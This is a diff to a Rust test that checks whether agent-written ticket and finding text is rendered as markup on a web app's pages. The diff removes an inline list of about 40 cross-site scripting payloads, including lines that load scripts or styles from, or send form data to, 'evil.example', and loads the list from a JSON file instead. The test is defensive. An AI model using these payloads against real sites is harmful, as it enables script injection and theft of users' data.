@@ -7,49 +7,11 @@ use crate::support::World;
 use crate::support::crew::{GOOD, always, builds, crew, rejects, says, verifies};
 use crate::support::server::Server;
 
-/// Attempts to run a script, or to change the look of a page.
-const PAYLOADS: [&str; 40] = [
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
-    "\"><script>alert(1)</script>",
-    "'><script>alert(1)</script>",
-    "</title><script>alert(1)</script>",
-    "</textarea><script>alert(1)</script>",
-    "</pre><script>alert(1)</script>",
-    "</script><script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=x onerror=\"alert(1)\"//",
-    "\"><img src=x onerror=alert(1)>",
-    "\" onmouseover=\"alert(1)",
-    "' onfocus='alert(1)' autofocus='",
-    "\" autofocus onfocus=alert(1) x=\"",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><animate onbegin=alert(1) attributeName=x>",
-    "<body onload=alert(1)>",
-    "<iframe src=javascript:alert(1)>",
-    "<iframe srcdoc=\"<script>alert(1)</script>\">",
-    "<object data=javascript:alert(1)>",
-    "<embed src=javascript:alert(1)>",
-    "<a href=javascript:alert(1)>x</a>",
-    "[x](javascript:alert(1))",
-    "![x](javascript:alert(1))",
-    "<form action=//evil.example><input name=secret>",
-    "<button formaction=javascript:alert(1)>x",
-    "<details open ontoggle=alert(1)>",
-    "<style>*{display:none}</style>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
-    "<base href=//evil.example/>",
-    "<math><mi xlink:href=\"javascript:alert(1)\">x",
-    "<div hx-get=\"/logout\" hx-trigger=load>",
-    "<hx-partial hx-target=\"body\" hx-swap=\"outerHTML\">x</hx-partial>",
-    "<template><script>alert(1)</script></template>",
-    "<!--><script>alert(1)</script-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "\u{1b}]8;;javascript:alert(1)\u{7}x\u{202e}<x onclick=alert(1)>",
-];
+/// Attempts to run a script, or to change the look of a page: the same as in a real browser.
+fn payloads() -> Vec<String> {
+    let text = include_str!("../../../../../browser/payloads.json");
+    serde_json::from_str(text).unwrap()
+}
 
 /// Elements that our pages use.
 const ELEMENTS: [&str; 62] = [
@@ -148,7 +110,7 @@ fn is_our_markup(path: &str, page: &str) {
             assert!(!tag.to_lowercase().contains(start), "{path}: <{tag}>");
         }
     }
-    assert_eq!(scripts, 3, "{path}");
+    assert_eq!(scripts, 4, "{path}");
     assert!(
         !page.contains(['\u{1b}', '\u{202e}', '\u{7}']),
         "{path}: control characters"
@@ -158,8 +120,10 @@ fn is_our_markup(path: &str, page: &str) {
 #[test]
 fn no_text_of_an_agent_becomes_markup() {
     let world = World::new();
-    let every = PAYLOADS.join("\n");
-    let finding = |payload: &&str| {
+    let all = payloads();
+    assert_eq!(all.len(), 40);
+    let every = all.join("\n");
+    let finding = |payload: &String| {
         json!({"severity": "high", "category": "correctness", "file": "greet.sh", "line": 2,
             "title": payload, "problem": every, "impact": payload, "fix": payload})
     };
@@ -176,19 +140,19 @@ fn no_text_of_an_agent_becomes_markup() {
     );
     let script = crew(
         &always(build),
-        &always(rejects(PAYLOADS.iter().take(12).map(finding))),
+        &always(rejects(all.iter().take(12).map(finding))),
         &always(verifies(&[])),
     );
     run_greet(&world, &script);
     let server = Server::start(&world);
     let repository = world.repository.to_str().unwrap();
-    for (index, payload) in PAYLOADS.iter().enumerate() {
+    for (index, payload) in all.iter().enumerate() {
         let ticket = json!({"id": format!("x{index}"), "title": payload, "description": every,
             "acceptance": [payload], "repository": repository});
         server.rest("POST", "/api/v1/tickets", &ticket).is(201);
     }
     let browser = person(&world, &server);
-    for (scope, name) in [("agent", PAYLOADS[0]), ("provider", PAYLOADS[11])] {
+    for (scope, name) in [("agent", all[0].as_str()), ("provider", all[11].as_str())] {
         browser
             .post(
                 "/pauses",
@@ -214,7 +178,7 @@ fn no_text_of_an_agent_becomes_markup() {
     ]
     .map(str::to_owned)
     .to_vec();
-    paths.extend((0..PAYLOADS.len()).map(|index| format!("/tickets/x{index}")));
+    paths.extend((0..all.len()).map(|index| format!("/tickets/x{index}")));
     // What a link or a person puts into the address is shown as well.
     paths.push("/tickets?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E+stage:%3Cscript%3E".to_owned());
     for path in &paths {
